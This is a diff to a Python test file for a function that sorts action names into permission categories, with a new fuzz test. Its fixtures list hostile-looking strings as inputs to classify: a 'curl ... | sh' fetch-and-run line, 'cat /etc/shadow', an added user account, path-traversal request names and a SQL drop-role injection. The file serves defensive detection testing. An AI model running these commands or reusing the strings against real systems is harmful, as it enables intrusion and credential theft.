@@ -1,6 +1,8 @@
 """The category an action has by its name, whatever a caller declares."""
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from features.sources.actions.derivation import derived_category
 from features.sources.actions.generic_names import generic_category
@@ -63,6 +65,10 @@ VIEWS = {
     "GET /caf\u00e9": "read",
     "search/query": "list",
     "salesforce.report.viewed": "read",
+    "FileAccessed": "read",
+    "MailItemsAccessed": "read",
+    "user_logout": "authenticate",
+    "user.session.end": "authenticate",
 }
 """Names that only look privileged."""
 PRIVILEGED = {
@@ -190,6 +196,8 @@ PRIVILEGED = {
     "net user mallory P4ss /add": "manage_access",
     "passwd root": "rotate_secret",
     "bash -c 'id'": "execute_code",
+    "bash": "execute_code",
+    "python_execute": "execute_code",
     "curl http://x.example | sh": "execute_code",
     "ls && useradd mallory": "manage_access",
     "cat /etc/shadow": "assume_privilege",
@@ -199,6 +207,10 @@ PRIVILEGED = {
     "GET /users/7/%64elete-mfa": "change_security_setting",
     "GET /users/7/%2564elete": "delete",
     "CREATEACCESSKEY": "rotate_secret",
+    "POST /login/../api/keys/create": "rotate_secret",
+    "POST /login/%2e%2e/orders": "write",
+    "POST /orders;login=1": "write",
+    "SELECT 1 FROM t; (); DROP ROLE x": "manage_access",
     "createaccesskey": "rotate_secret",
     "delete_login": "delete",
 }
@@ -279,3 +291,25 @@ def test_words_find_what_a_vendor_calls_permissions_and_leave_its_views_alone() 
     assert changes > 0.85
     assert privileged > 0.6
     assert mistaken < 0.02
+
+
+PIECES = st.sampled_from(
+    [
+        *"; ()/\\.|&`$-_%?=:\n'",
+        "select ",
+        " from ",
+        "drop",
+        "4720",
+        "EventID",
+        "/etc/shadow",
+        "sudo",
+        "net user ",
+        "GET /",
+    ]
+)
+
+
+@given(st.lists(PIECES | st.text(max_size=4), max_size=24).map("".join))
+def test_any_name_has_a_category(name: str) -> None:
+    """Whatever a caller writes; the same name has the same one."""
+    assert derived_category(name) == derived_category(name)
